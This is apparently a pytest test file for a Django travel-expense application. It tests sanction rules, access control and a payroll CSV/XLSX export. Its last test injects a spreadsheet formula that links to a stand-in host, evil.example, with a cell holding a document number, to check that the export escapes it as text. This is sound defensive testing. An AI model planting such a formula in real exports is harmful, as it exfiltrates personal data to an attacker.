"""The sanctions ledger (R-3.11a, R-3.13, R-3.17, R-8a, R-8b, R-8c), its access and the
payroll export."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal as D
from io import StringIO

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from deadlines import sanctions
from deadlines.models import PayrollDeductionOrder, PayrollExport, Sanction
from missions import services as mission_services
from missions.models import Advance
from tests.deadlines.proposals import apply_proposals
from tests.factories import UserFactory
from viaticos.errors import DomainError
from viaticos.models import TravelerProfile

pytestmark = pytest.mark.django_db
TODAY = dt.date(2026, 3, 13)


@pytest.fixture(autouse=True)
def _fake_pdf(monkeypatch):
    monkeypatch.setattr("deadlines.notices.render_pdf", lambda *a, **k: b"%PDF-1.4 fake")


def run(date: str) -> None:
    call_command("enforce_deadlines", "--date", date, stdout=StringIO())


def test_r_3_11a_no_new_advance_while_unsettled_is_derived_not_stored(
    returned_mission, authorized_mission, traveler
):
    returned_mission()
    run("2026-03-23")  # requirement and deduction exist; no "blocked" flag anywhere
    later = authorized_mission()
    with pytest.raises(DomainError) as error:
        mission_services.advance_request(
            actor=traveler, mission=later, terminal_estimate=D("10.00")
        )
    assert error.value.code == "advance_pending_settlement"
    assert not Sanction.objects.exclude(kind="payroll_deduction").exists()


def test_r_3_13_co_executing_entity_gets_no_advance_until_its_people_settle(
    returned_mission, authorized_mission, traveler, other_traveler, accountant
):
    TravelerProfile.objects.filter(user__in=[traveler, other_traveler]).update(
        entity_kind=TravelerProfile.EntityKind.CO_EXECUTING, entity_name="Entidad Coejecutora"
    )
    returned_mission()  # Lucía is late
    run("2026-03-13")
    apply_proposals(accountant, proposed_on=dt.date(2026, 3, 13))  # R-A1: a person applies
    block = Sanction.objects.get(kind="co_executing_block")
    assert (block.rule, block.state, block.entity_name) == (
        "R-3.13",
        "applied",
        "Entidad Coejecutora",
    )
    mission = authorized_mission(other_traveler)  # Rosa, same entity, nothing pending
    with pytest.raises(DomainError) as error:
        mission_services.advance_request(
            actor=other_traveler, mission=mission, terminal_estimate=D("10.00")
        )
    assert error.value.code == "entity_blocked"


def test_r_3_13_member_institution_disbursement_is_refused_while_blocked(
    returned_mission, signed_advance, traveler, other_traveler, treasurer, accountant
):
    TravelerProfile.objects.filter(user__in=[traveler, other_traveler]).update(
        entity_kind=TravelerProfile.EntityKind.MEMBER_INSTITUTION, entity_name="INSIVUMEH"
    )
    returned_mission()
    run("2026-03-13")
    apply_proposals(accountant, proposed_on=dt.date(2026, 3, 13))  # R-A1: a person applies
    advance = signed_advance(other_traveler)  # requesting is allowed, paying is not
    with pytest.raises(DomainError) as error:
        mission_services.advance_disburse(
            actor=treasurer,
            advance=advance,
            disbursed_on=TODAY,
            method="transfer",
            reference="OP-15",
        )
    assert error.value.code == "entity_blocked"


def test_r_3_17_no_show_billed_to_the_entity_then_lifted_with_justification(
    authorized_mission, traveler, accountant
):
    TravelerProfile.objects.filter(user=traveler).update(
        entity_kind="other", entity_name="Ministerio de Ambiente"
    )
    mission = authorized_mission()
    sanction = sanctions.sanction_propose(
        actor=accountant,
        kind="no_show",
        person=traveler,
        mission=mission,
        amount=D("310.50"),
        reason="Invitado confirmado que no asistió: hotel y penalidad aérea.",
        today=TODAY,
    )
    assert (sanction.rule, sanction.entity_name, sanction.amount) == (
        "R-3.17",
        "Ministerio de Ambiente",
        D("310.50"),
    )
    sanctions.sanction_apply(actor=accountant, sanction=sanction, today=TODAY)
    sanction = sanctions.sanction_lift(
        actor=accountant, sanction=sanction, reason="Certificado médico aceptado.", today=TODAY
    )
    assert sanction.state == "lifted" and sanction.lifted_by == accountant
    with pytest.raises(DomainError) as error:
        sanctions.sanction_propose(
            actor=accountant,
            kind="no_show",
            person=traveler,
            mission=mission,
            reason="x",
            today=TODAY,
        )
    assert error.value.code == "amount_required"


def test_r_8c_altered_documents_two_days_suspension_and_legal_flag(
    authorized_mission, traveler, accountant
):
    sanction = sanctions.sanction_propose(
        actor=accountant,
        kind="altered_documents",
        person=traveler,
        mission=authorized_mission(),
        reason="Factura con fecha enmendada.",
        today=TODAY,
    )
    assert (sanction.rule, sanction.suspension_days, sanction.legal_action) == ("R-8c", 2, True)


def test_r_8a_undue_full_day_recovery_is_recorded(authorized_mission, traveler, accountant):
    sanction = sanctions.sanction_propose(
        actor=accountant,
        kind="undue_per_diem",
        person=traveler,
        mission=authorized_mission(),
        amount=D("40.00"),
        reason="Día completo cobrado por una fracción de día.",
        today=TODAY,
    )
    assert (sanction.rule, sanction.amount, sanction.state) == ("R-8a", D("40.00"), "proposed")


def test_r_8b_is_only_ordered_by_the_daily_job(returned_mission, traveler, accountant):
    mission = returned_mission()
    with pytest.raises(DomainError) as error:
        sanctions.sanction_propose(
            actor=accountant,
            kind="payroll_deduction",
            person=traveler,
            mission=mission,
            advance=mission.advances.get(),
            reason="x",
            today=TODAY,
        )
    assert error.value.code == "kind_not_manual"


def test_sanction_on_a_person_who_already_settled_is_refused(
    returned_mission, traveler, accountant
):
    TravelerProfile.objects.filter(user=traveler).update(
        entity_kind="co_executing", entity_name="Entidad"
    )
    mission = returned_mission()
    advance = mission.advances.get()
    mission_services.advance_mark_settled(actor=accountant, advance=advance)
    with pytest.raises(DomainError) as error:
        sanctions.sanction_propose(
            actor=accountant,
            kind="co_executing_block",
            person=traveler,
            mission=mission,
            advance=advance,
            reason="Atraso",
            today=TODAY,
        )
    assert error.value.code == "already_settled"


def test_only_the_general_accountant_decides_and_never_on_themselves(
    authorized_mission, traveler, treasurer, accountant
):
    mission = authorized_mission()
    for actor in (treasurer, traveler):
        with pytest.raises(DomainError):
            sanctions.sanction_propose(
                actor=actor,
                kind="altered_documents",
                person=traveler,
                mission=mission,
                reason="x",
                today=TODAY,
            )


def test_lift_needs_a_reason_and_cancels_the_pending_deduction(returned_mission, accountant):
    returned_mission()
    run("2026-03-13")
    run("2026-03-23")
    apply_proposals(accountant, proposed_on=dt.date(2026, 3, 23))  # R-A1: a person applies
    sanction = Sanction.objects.get(kind="payroll_deduction")
    with pytest.raises(DomainError):
        sanctions.sanction_lift(actor=accountant, sanction=sanction, reason=" ", today=TODAY)
    sanctions.sanction_lift(
        actor=accountant, sanction=sanction, reason="Liquidó en ventanilla.", today=TODAY
    )
    assert PayrollDeductionOrder.objects.get(sanction=sanction).state == "cancelled"


# --- payroll export ----------------------------------------------------------------------------


def test_r_8b_payroll_export_csv_and_xlsx_once_then_only_with_a_reason(
    returned_mission, accountant, client, traveler
):
    returned_mission()
    run("2026-03-13")
    run("2026-03-23")
    apply_proposals(accountant, proposed_on=dt.date(2026, 3, 23))  # R-A1: a person applies
    order = PayrollDeductionOrder.objects.get()
    client.force_login(accountant)
    url = reverse("deadlines:payroll")
    response = client.post(url, {"period": "2026-03", "format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.startswith("\ufeff".encode())  # Excel reads it as UTF-8
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == [
        "Orden",
        "Emitida el",
        "Persona",
        "N.° de documento",
        "Importe",
        "Moneda",
        "Concepto",
        "Referencia de la misión",
        "Regla",
    ]
    assert rows[1][0] == order.code and rows[1][4] == "450.00"
    assert rows[1][1] == order.issued_on.strftime("%d/%m/%Y")
    assert rows[1][3] == traveler.traveler_profile.document_number
    order.refresh_from_db()
    assert order.state == "exported" and order.exported_at is not None
    # Exported once: a second export of the period is refused without a reason…
    response = client.post(url, {"period": "2026-03", "format": "xlsx"}, follow=True)
    assert "already exported" in response.content.decode() or "ya se export" in (
        response.content.decode()
    )
    # …and allowed with one, logged.
    response = client.post(
        url, {"period": "2026-03", "format": "xlsx", "reason": "Planilla rechazada por RR.HH."}
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet["A2"].value == order.code and float(sheet["E2"].value) == 450.0
    assert sheet["B1"].value == "Emitida el" and sheet["B2"].is_date  # a real date
    assert sheet.column_dimensions["C"].width >= 20
    assert list(PayrollExport.objects.values_list("reexport_reason", flat=True)) == [
        "Planilla rechazada por RR.HH.",
        "",
    ]


def test_payroll_page_is_for_the_general_accountant_only(client, traveler, auditor):
    for user in (traveler, auditor):
        client.force_login(user)
        assert client.get(reverse("deadlines:payroll")).status_code == 403


# --- access ------------------------------------------------------------------------------------


def test_traveler_cannot_see_the_dashboard(client, traveler, auditor, accountant):
    client.force_login(traveler)
    assert client.get(reverse("deadlines:dashboard")).status_code == 403
    client.force_login(auditor)
    assert client.get(reverse("deadlines:dashboard")).status_code == 200


def test_traveler_cannot_see_others_sanctions_or_requirements(
    returned_mission, client, traveler, other_traveler, accountant, api_client
):
    returned_mission()
    run("2026-03-13")
    run("2026-03-23")
    apply_proposals(accountant, proposed_on=dt.date(2026, 3, 23))  # R-A1: a person applies
    sanction = Sanction.objects.get()
    order = PayrollDeductionOrder.objects.get()
    client.force_login(other_traveler)
    assert client.get(reverse("deadlines:sanction", args=[sanction.pk])).status_code == 404
    assert (
        client.get(reverse("deadlines:requirement-pdf", args=[order.requirement_id])).status_code
        == 404
    )
    assert client.get(reverse("deadlines:order-pdf", args=[order.pk])).status_code == 404
    api_client.force_authenticate(other_traveler)
    assert api_client.get(reverse("v1:sanction-list")).json() == []
    assert (
        api_client.post(
            reverse("v1:sanction-lift", args=[sanction.pk]), {"reason": "x"}
        ).status_code
        == 404
    )
    # …and the traveler it concerns sees it but may not decide: 403 as documented, not 400
    api_client.force_authenticate(traveler)
    for name, body in [("v1:sanction-lift", {"reason": "x"}), ("v1:sanction-apply", {})]:
        response = api_client.post(reverse(name, args=[sanction.pk]), body)
        assert response.status_code == 403 and response.json()["code"] == "not_allowed"
    sanction.refresh_from_db()
    assert sanction.state == "applied"
    client.force_login(traveler)
    assert client.get(reverse("deadlines:sanction", args=[sanction.pk])).status_code == 200
    # the traveler sees their own sanction but cannot lift it
    assert (
        client.post(
            reverse("deadlines:sanction-lift", args=[sanction.pk]), {"reason": "x"}
        ).status_code
        == 403
    )


def test_api_propose_apply_lift(authorized_mission, api_client, accountant, traveler):
    mission = authorized_mission()
    api_client.force_authenticate(accountant)
    response = api_client.post(
        reverse("v1:sanction-list"),
        {"kind": "undue_per_diem", "mission": mission.pk, "amount": "40.00", "reason": "R-8a"},
        format="json",
    )
    assert response.status_code == 201, response.json()
    pk = response.json()["id"]
    assert api_client.post(reverse("v1:sanction-apply", args=[pk])).json()["state"] == "applied"
    response = api_client.post(reverse("v1:sanction-lift", args=[pk]), {"reason": "Devolvió"})
    assert response.json()["state"] == "lifted"
    api_client.force_authenticate(traveler)
    assert (
        api_client.post(
            reverse("v1:sanction-list"),
            {"kind": "undue_per_diem", "mission": mission.pk, "amount": "1", "reason": "x"},
            format="json",
        ).status_code
        == 403
    )


def test_dashboard_and_traveler_page_run_a_constant_number_of_queries(
    coordinator, client, accountant, django_assert_max_num_queries
):
    from tests.deadlines.test_enforcement_scale import overdue_missions

    overdue_missions(30, coordinator)
    run("2026-03-13")
    client.force_login(accountant)
    with django_assert_max_num_queries(25):
        response = client.get(reverse("deadlines:dashboard"))
    assert response.status_code == 200
    traveler = UserFactory(username="t0")
    client.force_login(traveler)
    with django_assert_max_num_queries(25):
        response = client.get(reverse("deadlines:mine"))
    assert response.status_code == 200
    assert Advance.objects.count() == 30


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_r_8b_payroll_export_writes_a_typed_formula_as_text(
    returned_mission, accountant, client, file_format
):
    """A name rectified to a formula reaches the payroll office as text (formula injection)."""
    returned_mission()
    run("2026-03-13")
    run("2026-03-23")
    apply_proposals(accountant, proposed_on=dt.date(2026, 3, 23))  # R-A1: a person applies
    formula = '=HYPERLINK("http://evil.example/?"&D2,"Ver")'
    PayrollDeductionOrder.objects.update(person_name=formula, concept="@SUM(1+1)")
    client.force_login(accountant)
    response = client.post(
        reverse("deadlines:payroll"), {"period": "2026-03", "format": file_format}
    )
    assert response.status_code == 200
    if file_format == "csv":
        text = response.content.decode("utf-8-sig")
        row = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
        person, concept, amount = row[2], row[6], row[4]
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert sheet["C2"].data_type == "s" and sheet["G2"].data_type == "s"
        person, concept, amount = sheet["C2"].value, sheet["G2"].value, sheet["E2"].value
    assert person == "'" + formula and concept == "'@SUM(1+1)"
    assert float(amount) == 450.0
